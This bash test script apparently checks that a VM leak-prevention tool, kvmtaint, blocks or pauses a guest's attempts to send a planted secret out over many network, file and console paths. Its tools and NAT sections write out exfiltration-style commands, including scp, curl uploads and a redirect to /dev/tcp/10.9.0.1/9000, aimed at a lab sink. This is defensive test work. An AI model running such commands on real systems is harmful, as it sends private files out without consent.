# SPDX-License-Identifier: GPL-2.0
# shellcheck shell=bash
# In L1: what is to be stopped is stopped; proved by who would receive it. $parts names
# the parts to run, $attempts how often each way is tried, $few how often each of the others.
# The parts hooks and calls need --trap shim-hooks. Lines as tests/lab/run reads them.
set -u
parts=${parts:-report block tools pause stalled timeout sendpage spread kill nat dirty protected swapped files lockdown}
attempts=${attempts:-250} few=${few:-9}
ways="tcp4 udp4 tcp6 udp6" other_ways="mptcp4 ktls4 fastopen4 icmp4 ping4 packet txring vsock"
# A guest up to 6.4 sends files with all it needs in registers: that pauses, and has its own test.
case $LAB_KERNEL in
5.10 | 6.1) setting='export WITHOUT="sendfile splice";' ;;
*) setting= ;;
esac
records=$OUT/records
ssh_options="-o BatchMode=yes -o LogLevel=ERROR -o ConnectTimeout=20"

verdict() { # NAME STATUS WHY
	if [ "$2" = 0 ]; then echo "ok $1"; else echo "not ok $1: $3"; fi
}

state() {
	sed 's/.*) //; s/ .*//' "/proc/$VMM/stat"
}

start() { # PART OPTION...
	records=$OUT/$1.jsonl
	shift
	# What the programs say comes by a virtio-serial port: that is a console, and a leak.
	# shellcheck disable=SC2086 # words, or none
	kvmtaint --vm "$VMM" --no-scan --secret lab=/srv/secret/ ${allow---allow lab=console} "$@" >"$records" 2>"$records.stderr" &
	kvmtaint=$!
	for ((i = 0; i < 600; i++)); do
		grep -q '"type":"start"' "$records" && return
		kill -0 $kvmtaint 2>/dev/null || break
		sleep 0.05
	done
	echo "not ok start: $(tail -1 "$records.stderr")"
	exit 1
}

stop() {
	kill -INT $kvmtaint
	wait $kvmtaint
	verdict "$1-ends" $? "$(tail -1 "$records.stderr")"
}

wait_for() { # WORDS [COUNT]: until so many records hold the words
	for ((i = 0; i < 400; i++)); do
		[ "$(grep -c "$1" "$records")" -lt "${2:-1}" ] || return 0
		sleep 0.05
	done
	return 1
}

count() { # of records with these words
	grep -c "$1" "$records"
}

# Whatever comes out of the guest's network card.
watch_wire() {
	mkdir -p /run/sink
	python3 -c '
import socket
wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
wire.setsockopt(socket.SOL_SOCKET, 33, 32 << 20)  # SO_RCVBUFFORCE
wire.bind(("tap0", 0))
with open("/run/sink/wire", "ab", buffering=0) as store:
    while True:
        frame, (_, _, kind, _, _) = wire.recvfrom(65536)
        if kind != socket.PACKET_OUTGOING:
            store.write(frame)' &
}

empty_sink() {
	for each in /run/sink/*; do
		: >"$each"
	done
}

arrived() { # bytes of the sink; any piece of the secret counts, wherever it is
	python3 - "$@" <<'END'
import glob, sys
secret = open("/tmp/secret", "rb").read()
pieces = {secret[at:at + 12] for at in range(0, len(secret) - 12)}
found = 0
for path in glob.glob("/run/sink/*") + sys.argv[1:]:
    try:
        data = open(path, "rb").read()
    except FileNotFoundError:
        continue
    found += sum(data[at:at + 12] in pieces for at in range(len(data) - 11))
print(found)
END
}

datagrams() { # that came to this host's sockets
	awk '/^Udp: [0-9]/ { print $2 }' /proc/net/snmp
	awk '$1 == "Udp6InDatagrams" { print $2 }' /proc/net/snmp6
}

new_secret() {
	head -c 3000 /dev/urandom | base64 -w0 >/tmp/secret
	guest "mkdir -p /srv/secret && echo '$(cat /tmp/secret)' >/srv/secret/a
		modprobe vmw_vsock_virtio_transport
		echo 0 0 >/proc/sys/net/ipv4/ping_group_range" || echo "not ok new-secret: status $?"
}

# By the descriptors of kvmtaint; fails if one is there for verdicts alone. (That no other
# can write to a process: tests/unit/test_verdict.c.)
loaded_programs() {
	python3 - $kvmtaint <<'END'
import glob, json, re, subprocess, sys
names = []
for path in glob.glob(f"/proc/{sys.argv[1]}/fdinfo/*"):
    match = re.search(r"^prog_id:\s+(\d+)", open(path).read(), re.M)
    if match:
        show = ["bpftool", "-j", "prog", "show", "id", match[1]]
        names.append(json.loads(subprocess.run(show, stdout=subprocess.PIPE, check=True).stdout)["name"])
bad = {"handle_block", "handle_pause", "handle_freeze", "handle_bar"} & set(names)
print(f"{len(names)} programs are loaded, {len(bad)} of them for verdicts:", *bad)
sys.exit(bool(bad) or len(names) < 10)
END
}

# Without a verdict all of it arrives, or nothing below proves anything; and nothing that could
# write to the guest is there.
part_report() {
	start report
	empty_sink
	for way in $ways $other_ways; do
		empty_sink
		guest "$setting leaker /srv/secret/a $way 10" >>"$OUT/report.leaker"
		sleep 1
		# What leaves encrypted leaves.
		[ "$(arrived)" -gt 0 ] || { [ "$way" = ktls4 ] && [ "$(wc -c </run/sink/tcp)" -gt 6000 ]; }
		verdict "report-$way-arrives" $? "nothing came: $(tail -1 "$OUT/report.leaker")"
	done
	[ "$(count '"verdict":"reported"')" -ge 100 ]; verdict report-records $? "$(count reported) records"
	loaded_programs >"$OUT/report.programs"
	verdict report-loads-no-writer $? "$(cat "$OUT/report.programs")"
	echo "# report: $(head -1 "$OUT/report.programs")"
	stop report
}

# What the guest's kernel said; but for the times when a busy machine gave the emulator no CPU.
kernel_log="dmesg | grep -vE '$(paste -sd"|" /run/lab/slow)'"

# Two processes on two CPUs retry by every call; not one byte comes.
try_block() { # PART OPTION...
	local before after part=$1 all=$((4 * attempts + 8 * few))
	# Should it pause instead, the job goes on, and fails.
	start "$@" --on-leak block --pause-timeout 5
	! loaded_programs >"$OUT/$part.programs"; verdict "$part-loads-the-writer" $? "the test of report sees none"
	# The kernel tells of a module that kTLS loads.
	guest "echo clean >/tmp/clean; leaker /tmp/clean ktls4 1; $kernel_log >/tmp/dmesg.before" >"$OUT/$part.clean"
	sleep 1
	empty_sink
	before=$(datagrams)
	guest -t 900 "$setting for way in tcp4 udp4; do leaker /srv/secret/a \$way $attempts & done
		wait
		for way in tcp6 udp6; do leaker /srv/secret/a \$way $attempts & done
		wait
		for way in $other_ways; do leaker /srv/secret/a \$way $few; done" >"$OUT/$part.leaker"
	verdict "$part-attempts-end" $? "the program in the guest did not end"
	sleep 1
	after=$(datagrams)
	sed "s/^/# $part: /" "$OUT/$part.leaker"
	grep '"type":"leak".*"verdict":"[pf]a' "$records" | head -3 | sed "s/^/# $part: /"
	[ "$(awk '{ n += $NF } END { print n }' "$OUT/$part.leaker")" = $all ]
	verdict "$part-attempts" $? "not all were made"
	[ "$(arrived)" = 0 ] && [ ! -s /run/sink/tcp ] && [ ! -s /run/sink/udp ] && [ ! -s /run/sink/vsock ]
	verdict "$part-nothing-arrives" $? "$(arrived) pieces of the secret came; $(wc -c /run/sink/tcp /run/sink/udp /run/sink/vsock 2>/dev/null | xargs)"
	[ "$before" = "$after" ]; verdict "$part-no-empty-datagram" $? "datagrams: $before, then $after"
	# MPTCP does not look at what makes the others refuse.
	! grep -v '^mptcp4 [a-z]*: 0 ' "$OUT/$part.leaker" | grep -E ' [0-9]+ [0-9]+$' >"$OUT/$part.sent"
	verdict "$part-gives-an-error" $? "$(head -2 "$OUT/$part.sent")"
	[ "$(count '"verdict":"blocked"')" -ge $all ] && [ "$(count '"verdict":"failed"')" = 0 ] && [ "$(count '"verdict":"paused"')" = 0 ]
	verdict "$part-records" $? "$(count blocked) blocked of $all, $(count '"verdict":"failed"') failed, $(count '"verdict":"paused"') paused"
	# Whoever holds nothing is not touched, on the same two CPUs.
	guest 'leaker /tmp/clean tcp4 6; leaker /tmp/clean udp6 6' >>"$OUT/$part.clean"
	! grep -q E "$OUT/$part.clean"; verdict "$part-leaves-others-alone" $? "$(grep E "$OUT/$part.clean" | head -1)"
	guest "$kernel_log | diff /tmp/dmesg.before -" >"$OUT/$part.dmesg"
	verdict "$part-guest-unharmed" $? "$(head -3 "$OUT/$part.dmesg")"
	stop "$part"
}

part_block() {
	try_block block
}

# Programs that people use end, and with an error; where the policy lets them they work.
part_tools() {
	start tools --on-leak block --allow 'lab=10.9.0.1:8080' --verbose
	empty_sink
	rm -rf /tmp/got.*
	for tool in "scp $ssh_options /srv/secret/a root@10.9.0.1:/tmp/got.scp" \
		"rsync -e 'ssh $ssh_options' /srv/secret/a root@10.9.0.1:/tmp/got.rsync" \
		"curl -sS -g -m 60 -T /srv/secret/a http://[fd00:9::1]:8080/a" \
		"bash -c 'cat /srv/secret/a >/dev/tcp/10.9.0.1/9000'"; do
		guest -t 120 "$tool" >"$OUT/tool" 2>&1
		status=$?
		echo "# ${tool%% *}: status $status, $(tail -1 "$OUT/tool")"
		[ $status != 0 ] && [ $status != 124 ]; verdict "tools-${tool%% *}-ends" $? "status $status"
	done
	sleep 1
	[ "$(arrived /tmp/got.scp /tmp/got.rsync)" = 0 ]; verdict tools-nothing-arrives $? "$(arrived /tmp/got.scp /tmp/got.rsync) pieces came"
	guest -t 60 "curl -sS -m 60 -H Expect: -o /dev/null -T /srv/secret/a http://10.9.0.1:8080/a" >"$OUT/tool" 2>&1
	verdict tools-allowed-works $? "$(tail -1 "$OUT/tool")"
	sleep 1
	[ "$(arrived)" -gt 0 ]; verdict tools-allowed-arrives $? "nothing came"
	grep -q '"type":"allowed".*"verdict":"allowed"' "$records"; verdict tools-allowed-record $? "no record of type allowed"
	! grep '"type":"leak"' "$records" | grep -q '"address":"10.9.0.1","port":8080'; verdict tools-allowed-is-no-leak $? "a leak record to an allowed destination"
	stop tools
}

send_in_guest() { # WAY [COUNT]: in the background
	guest -t 120 "leaker /srv/secret/a $1 ${2:-1}" >"$OUT/pause.leaker" 2>&1 &
	sender=$!
}

standstill() {
	sed -n 's/.*"event":"paused".*"standstill_ns":\([0-9]*\).*/\1/p' "$records"
}

part_pause() {
	start pause --on-leak pause
	kvmtaint resume --vm "$VMM" >"$OUT/resume" 2>&1
	[ $? = 27 ]; verdict resume-of-a-running-vm $? "$(cat "$OUT/resume")"

	empty_sink
	send_in_guest udp4/send
	wait_for '"event":"paused"'; verdict pause-stands $? "no record"
	[ "$(state)" = T ] && grep -q '"type":"leak".*"verdict":"paused"' "$records"; verdict pause-record $? "state $(state)"
	kill -CONT "$VMM"
	sleep 1
	[ "$(state)" = T ] && [ "$(arrived)" = 0 ]; verdict pause-outlasts-sigcont $? "state $(state), $(arrived) pieces came"
	kvmtaint resume --vm "$VMM" >"$OUT/resume" 2>&1; verdict pause-resume $? "$(cat "$OUT/resume")"
	wait $sender
	[ "$(cat "$OUT/pause.leaker")" = "udp4 send: EINVAL 1" ] && [ "$(arrived)" = 0 ]
	verdict pause-resume-stops-it $? "$(cat "$OUT/pause.leaker"), $(arrived) pieces came"

	send_in_guest tcp4/write
	wait_for '"event":"paused"' 2
	kvmtaint resume --vm "$VMM" --allow-once >"$OUT/resume" 2>&1; verdict pause-allow-once $? "$(cat "$OUT/resume")"
	wait $sender
	sleep 0.5
	[ "$(cat "$OUT/pause.leaker")" = "tcp4 write: 600 1" ] && [ "$(arrived)" -gt 500 ]
	verdict pause-allow-once-arrives $? "$(cat "$OUT/pause.leaker"), $(arrived) pieces came"

	# Somebody else stops it meanwhile: it stays stopped.
	empty_sink
	send_in_guest udp4/send
	wait_for '"event":"paused"' 3
	kill -STOP "$VMM"
	kvmtaint resume --vm "$VMM" >"$OUT/resume" 2>&1
	sleep 1
	[ "$(state)" = T ]; verdict pause-leaves-others-stops-alone $? "state $(state)"
	kill -CONT "$VMM"
	wait $sender
	[ "$(state)" != T ] && [ "$(arrived)" = 0 ]; verdict pause-others-let-it-go $? "state $(state)"
	grep '"type":"pause"' "$records" | sed 's/^.*"type":"pause"/# pause: /; s/"vm":{[^}]*},//'
	echo "# from the hook to the standstill: $(standstill | xargs) ns"
	stop pause
}

# Nobody reads what kvmtaint writes: the VM stands before the leak, and is let go on, all the same.
part_stalled() {
	local reader
	mkfifo /tmp/stalled
	exec 7<>/tmp/stalled
	head -c 65536 /dev/zero >&7
	kvmtaint --vm "$VMM" --no-scan --secret lab=/srv/secret/ --allow lab=console --on-leak pause --verbose >&7 2>"$OUT/stalled.jsonl.stderr" &
	kvmtaint=$!
	for ((i = 0; i < 600; i++)); do
		grep -q 'traps planted' "$OUT/stalled.jsonl.stderr" && break
		sleep 0.1
	done
	sleep 1
	empty_sink
	send_in_guest udp4/send
	for ((i = 0; i < 100; i++)); do
		[ "$(state)" = T ] && break
		sleep 0.2
	done
	[ "$(state)" = T ]; verdict stalled-stands $? "state $(state)"
	timeout 10 kvmtaint resume --vm "$VMM" >"$OUT/resume" 2>&1; verdict stalled-resume $? "state $(state), $(cat "$OUT/resume")"
	wait $sender
	grep -q EINVAL "$OUT/pause.leaker" && [ "$(arrived)" = 0 ]
	verdict stalled-resume-stops-it $? "$(cat "$OUT/pause.leaker"), $(arrived) pieces came"
	records=$OUT/stalled.jsonl
	cat <&7 >"$records" &
	reader=$!
	wait_for '"event":"resumed"'; verdict stalled-records $? "no record"
	stop stalled
	kill $reader
	exec 7>&-
}

part_timeout() {
	start timeout --on-leak pause --pause-timeout 2
	empty_sink
	send_in_guest udp6/send
	wait_for '"event":"resumed".*"by":"timeout"'; verdict timeout-goes-on $? "no record"
	wait $sender
	grep -q EINVAL "$OUT/pause.leaker" && [ "$(arrived)" = 0 ]; verdict timeout-blocks $? "$(cat "$OUT/pause.leaker"), $(arrived) pieces came"
	# And the end of the trace: with what it stood before stopped.
	send_in_guest udp4/send
	wait_for '"event":"paused"' 2
	stop timeout
	wait $sender
	grep -q EINVAL "$OUT/pause.leaker" && [ "$(arrived)" = 0 ] && grep -q '"by":"end"' "$records"
	verdict end-of-the-trace-blocks $? "$(cat "$OUT/pause.leaker"), $(arrived) pieces came"
	start timeout-allows --on-leak pause --pause-timeout 1 --on-timeout allow
	send_in_guest udp4/send
	wait_for '"event":"resumed","verdict":"allowed","by":"timeout"'; verdict timeout-allows-record $? "no record"
	wait $sender
	sleep 0.5
	[ "$(cat "$OUT/pause.leaker")" = "udp4 send: 600 1" ] && [ "$(arrived)" -gt 500 ]
	verdict timeout-allows-arrives $? "$(cat "$OUT/pause.leaker"), $(arrived) pieces came"
	stop timeout-allows
}

# What a guest up to 6.4 sends by sendfile() cannot be stopped; the VM stands on.
part_sendpage() {
	if [ -z "$setting" ]; then
		echo "# sendpage: this guest has none"
		return
	fi
	start sendpage --on-leak block --pause-timeout 1
	empty_sink
	send_in_guest tcp4/sendfile
	wait_for '"verdict":"paused","reason":"no_message"' && wait_for '"event":"paused"'
	verdict sendpage-is-paused $? "$(grep '"leak"' "$records" | tail -1)"
	kvmtaint resume --vm "$VMM" >"$OUT/resume" 2>&1
	[ $? = 28 ]; verdict sendpage-is-not-resumed $? "$(cat "$OUT/resume")"
	sleep 3
	[ "$(state)" = T ] && [ "$(arrived)" = 0 ]; verdict sendpage-outlasts-the-timeout $? "state $(state)"
	kvmtaint resume --vm "$VMM" --allow-once >"$OUT/resume" 2>&1
	verdict sendpage-allow-once $? "$(cat "$OUT/resume")"
	wait $sender
	stop sendpage
}

# A VM that stands before what cannot be stopped: it stands on, and may be let go on once.
stands_on() { # PART WHERE: a file of this host where it would arrive
	[ "$(state)" = T ] && [ "$(arrived "$2")" = 0 ]; verdict "$1-stands-before" $? "state $(state), $(arrived "$2") pieces came"
	kvmtaint resume --vm "$VMM" >"$OUT/resume" 2>&1
	[ $? = 28 ] && [ "$(state)" = T ]; verdict "$1-is-not-resumed" $? "state $(state), $(cat "$OUT/resume")"
}

let_go() { # PART
	kvmtaint resume --vm "$VMM" --allow-once >"$OUT/resume" 2>&1; verdict "$1-allow-once" $? "$(cat "$OUT/resume")"
}

# Where the guest's own NAT sends a datagram is known when it is made already.
part_nat() {
	start nat --on-leak block --allow lab=10.9.0.9
	empty_sink
	guest 'nft add table ip kt && nft add chain ip kt out "{ type nat hook output priority -100; }" &&
		nft add rule ip kt out ip daddr 10.9.0.9 udp dport 9 dnat to 10.9.0.1:9000'
	verdict nat-rule $? "nft failed"
	guest -t 60 'exec 3<>/dev/udp/10.9.0.9/9; head -c 600 /srv/secret/a >&3' >"$OUT/nat" 2>&1 &
	sender=$!
	wait_for '"type":"leak".*"verdict":"paused","reason":"no_message"' && wait_for '"event":"paused"'
	verdict nat-is-paused $? "$(grep '"leak"' "$records" | tail -1)"
	stands_on nat /run/sink/udp
	let_go nat
	wait $sender
	sleep 1
	[ "$(arrived)" -gt 0 ]; verdict nat-allowed-arrives $? "nothing came"
	guest 'nft delete table ip kt'
	stop nat
}

# A file that the host or another machine keeps, a disk written raw, the console: each write.
try_file() { # NAME ON_LEAK KIND PATH WHERE OPTION...
	local reason=
	[ "$2" = pause ] || reason=',"reason":"no_message"'
	new_secret
	allow='' start "$1" --on-leak "$2" "${@:6}"
	empty_sink
	guest -t 120 "dd if=/srv/secret/a of=$4 bs=600 count=2 conv=notrunc status=none && sync" >"$OUT/$1" 2>&1 &
	sender=$!
	wait_for '"event":"paused"'; verdict "$1-is-paused" $? "$(grep '"leak"' "$records" | tail -1)"
	grep -q '"type":"leak".*"verdict":"paused"'"$reason"'.*"kind":"'"$3"'"' "$records"
	verdict "$1-record" $? "$(grep '"leak"' "$records" | tail -1)"
	stands_on "$1" "$5"
	let_go "$1"
	wait_for '"event":"paused"' 2; verdict "$1-second-write-is-paused" $? "$(count '"event":"paused"') pauses"
	[ "$(state)" = T ] && [ "$(arrived "$5")" -lt 600 ]; verdict "$1-allowed-once-only" $? "state $(state), $(arrived "$5") pieces came"
	let_go "$1-second"
	wait $sender; verdict "$1-program-ends" $? "$(cat "$OUT/$1")"
	sleep 1
	[ "$(arrived "$5")" -gt 1000 ]; verdict "$1-allowed-arrives" $? "$(arrived "$5") pieces came"
	stop "$1"
}

part_files() {
	l2 stop
	truncate -s 1M /run/disk
	LAB_STORAGE=1 l2 start -blockdev driver=file,filename=/run/disk,node-name=raw -device virtio-blk-device,drive=raw,serial=raw ||
		echo "not ok files-start: the guest did not start"
	VMM=$(cat /run/l2/pid)
	guest 'modprobe -a virtiofs nfsv4; mkdir -p /mnt/share /mnt/nfs; mount -t virtiofs share /mnt/share &&
		mount -t nfs4 10.9.0.1:/ /mnt/nfs && ln -s "/dev/$(grep -lx raw /sys/block/*/serial | cut -d/ -f4)" /tmp/disk && test -b /tmp/disk'
	verdict files-mounted $? "status $?"
	try_file virtiofs block filesystem /mnt/share/virtiofs /run/share/virtiofs
	try_file nfs pause filesystem /mnt/nfs/nfs /run/share/nfs
	try_file disk block device /tmp/disk /run/disk
	try_file console pause console /dev/console /run/l2/console
}

try_spread() { # PART OPTION...
	local part=$1
	start "$@" --on-spread pause
	guest -t 60 'cat /srv/secret/a >/dev/null; echo done' >"$OUT/spread" 2>&1 &
	reader=$!
	wait_for '"event":"paused"'; verdict "$part-stands" $? "no record"
	[ "$(state)" = T ] && [ ! -s "$OUT/spread" ]; verdict "$part-before-the-read" $? "state $(state)"
	kvmtaint resume --vm "$VMM" >"$OUT/resume" 2>&1; verdict "$part-resume" $? "$(cat "$OUT/resume")"
	wait $reader
	[ "$(cat "$OUT/spread")" = "done" ]; verdict "$part-goes-on" $? "$(cat "$OUT/spread")"
	guest -t 60 'cat /srv/secret/a >/dev/null'; verdict "$part-once-a-label" $? "status $?"
	[ "$(count '"event":"paused"')" = 1 ]; verdict "$part-one-pause" $? "$(count '"event":"paused"')"
	stop "$part"
}

part_spread() {
	try_spread spread
}

# By breakpoints on functions everything is as by the patch.
part_hooks() {
	try_block hooks --trap shim-hooks
	start hooks-pause --trap shim-hooks --on-leak pause
	empty_sink
	send_in_guest udp4/send
	wait_for '"event":"paused"'; verdict hooks-pause-stands $? "no record"
	[ "$(state)" = T ] && [ "$(arrived)" = 0 ]; verdict hooks-pause-before-the-send $? "state $(state), $(arrived) pieces came"
	kvmtaint resume --vm "$VMM" >"$OUT/resume" 2>&1; verdict hooks-pause-resume $? "$(cat "$OUT/resume")"
	wait $sender
	[ "$(cat "$OUT/pause.leaker")" = "udp4 send: EINVAL 1" ] && [ "$(arrived)" = 0 ]
	verdict hooks-pause-resume-stops-it $? "$(cat "$OUT/pause.leaker"), $(arrived) pieces came"
	stop hooks-pause
	try_spread hooks-spread --trap shim-hooks
	try_file hooks-console pause console /dev/console /run/l2/console --trap shim-hooks
}

# At the entry of a system call there is no message yet: the VM stands, whichever verdict is asked for.
part_calls() {
	local asked reason
	for asked in block pause; do
		reason=
		[ $asked = pause ] || reason=',"reason":"no_message"'
		start calls-$asked --trap shim --on-leak $asked --pause-timeout 1
		empty_sink
		send_in_guest tcp4/write
		wait_for '"type":"leak".*"verdict":"paused"'"$reason" && wait_for '"event":"paused"'
		verdict calls-$asked-is-paused $? "$(grep '"leak"' "$records" | tail -1)"
		stands_on calls-$asked /run/sink/tcp
		sleep 3
		[ "$(state)" = T ] && [ "$(arrived)" = 0 ]; verdict calls-$asked-outlasts-the-timeout $? "state $(state), $(arrived) pieces came"
		[ $asked = pause ] || let_go calls-$asked
		stop calls-$asked
		wait $sender
		sleep 1
		[ "$(cat "$OUT/pause.leaker")" = "tcp4 write: 600 1" ] && [ "$(arrived)" -gt 500 ]
		verdict calls-$asked-leaves-at-last $? "$(cat "$OUT/pause.leaker"), $(arrived) pieces came"
	done
	# Nobody let it go: the trace ended, and says what that meant.
	grep -q '"event":"resumed","verdict":"failed","reason":"no_message","by":"end"' "$records"
	verdict calls-end-of-the-trace-is-told $? "$(grep '"pause"' "$records" | tail -1)"
	try_spread calls-spread --trap shim
	try_file calls-console block console /dev/console /run/l2/console --trap shim
}

part_kill() {
	local from
	start kill --on-leak pause
	empty_sink
	send_in_guest udp4/send
	wait_for '"event":"paused"'; verdict kill-stands $? "no record"
	kill -9 $kvmtaint
	from=$SECONDS
	while [ "$(state)" = T ] && [ $((SECONDS - from)) -lt 20 ]; do
		sleep 0.05
	done
	[ "$(state)" != T ]; verdict kill-vm-runs $? "state $(state)"
	wait $sender
	grep -q EINVAL "$OUT/pause.leaker" && [ "$(arrived)" = 0 ]; verdict kill-stops-the-send $? "$(cat "$OUT/pause.leaker"), $(arrived) pieces came"
	wait $kvmtaint 2>/dev/null
	guest 'echo alive' | grep -q alive; verdict kill-guest-lives $? "no answer"
	kvmtaint release --vm "$VMM" >/dev/null; verdict kill-release $? "status"
}

# A write to guest memory would not migrate: then the VM stands instead.
part_dirty() {
	start dirty --on-leak block
	empty_sink
	l2 qmp migrate-set-parameters '{"max-bandwidth": 1000}' >/dev/null
	l2 qmp migrate '{"uri": "exec:cat >/dev/null"}' >"$OUT/migrate"
	sleep 1
	send_in_guest udp4/send
	wait_for '"verdict":"paused","reason":"dirty_log"'; verdict dirty-is-paused $? "$(grep '"leak"' "$records" | tail -1)"
	wait_for '"event":"paused"'
	kvmtaint resume --vm "$VMM" >"$OUT/resume" 2>&1
	[ $? = 28 ] && [ "$(state)" = T ] && [ "$(arrived)" = 0 ]; verdict dirty-stands-on $? "$(cat "$OUT/resume")"
	kvmtaint resume --vm "$VMM" --allow-once >/dev/null
	wait $sender
	l2 qmp migrate_cancel >/dev/null
	sleep 2
	send_in_guest udp4/send
	wait $sender
	grep -q EINVAL "$OUT/pause.leaker"; verdict dirty-is-over $? "$(cat "$OUT/pause.leaker")"
	stop dirty
}

# The message itself is swapped out when the hook comes: the slow path blocks.
part_swapped() {
	modprobe zram
	echo 1G >/sys/block/zram0/disksize
	mkswap /dev/zram0 >/dev/null
	swapon /dev/zram0
	start swapped --on-leak block --pause-timeout 1
	empty_sink
	python3 "$IN/host.py" push-out "$VMM" 1 >/dev/null 2>&1 &
	push=$!
	guest -t 600 "$setting leaker /srv/secret/a tcp4 60 & leaker /srv/secret/a udp4 60; wait" >"$OUT/swapped.leaker"
	verdict swapped-attempts-end $? "status"
	kill -INT $push
	wait $push
	sleep 2
	[ "$(arrived)" = 0 ]; verdict swapped-nothing-arrives $? "$(arrived) pieces came"
	[ "$(state)" != T ] && [ "$(count '"verdict":"failed"')" = 0 ]; verdict swapped-none-failed $? "state $(state), $(count '"verdict":"failed"') failed"
	stop swapped
	echo "# swapped: $(count '"verdict":"blocked"') blocked, $(count '"type":"leak".*"verdict":"paused"') paused; $(grep -o '"retried":[0-9]*' "$records" | tail -1)"
}

# The host takes away the VMM's right to write its pages, again and again: a write that comes
# just then cannot be made, and the VM stands instead.
part_protected() {
	start protected --on-leak block --pause-timeout 1
	empty_sink
	while echo 4 >"/proc/$VMM/clear_refs"; do :; done 2>/dev/null &
	protect=$!
	guest -t 900 "$setting leaker /srv/secret/a tcp4 120 & leaker /srv/secret/a udp4 120; wait" >"$OUT/protected.leaker"
	verdict protected-attempts-end $? "status"
	kill $protect
	wait $protect 2>/dev/null
	sleep 2
	[ "$(arrived)" = 0 ]; verdict protected-nothing-arrives $? "$(arrived) pieces came"
	[ "$(state)" != T ] && [ "$(count '"verdict":"failed"')" = 0 ]; verdict protected-none-failed $? "state $(state), $(count '"verdict":"failed"') failed"
	stop protected
	echo "# protected: $(count '"verdict":"blocked"') blocked, $(count '"reason":"not_writable"') paused because the page was not writable"
}

# A host that lets no BPF program write: the last part, there is no way back.
part_lockdown() {
	mount -t securityfs securityfs /sys/kernel/security 2>/dev/null
	echo integrity >/sys/kernel/security/lockdown
	kvmtaint --vm "$VMM" --secret lab=/srv/secret/ --on-leak block >"$OUT/lockdown" 2>&1
	[ $? = 6 ] && grep -q lockdown "$OUT/lockdown"; verdict lockdown-refuses-block $? "$(tail -1 "$OUT/lockdown")"
	start lockdown --on-leak pause
	empty_sink
	send_in_guest udp4/send
	wait_for '"event":"paused"'
	kvmtaint resume --vm "$VMM" >"$OUT/resume" 2>&1; verdict lockdown-pauses $? "$(cat "$OUT/resume")"
	wait $sender
	grep -q EINVAL "$OUT/pause.leaker" && [ "$(arrived)" = 0 ]; verdict lockdown-resume-stops-it $? "$(cat "$OUT/pause.leaker")"
	stop lockdown
	start lockdown-report
	guest "leaker /srv/secret/a udp4/send 1" >/dev/null
	wait_for '"verdict":"reported"'; verdict lockdown-reports $? "no record"
	stop lockdown-report
}

watch_wire
new_secret
for part in $parts; do
	"part_$part"
done
guest 'echo alive' | grep -q alive; verdict guest-lives $? "the guest does not answer"
echo "ok whole"
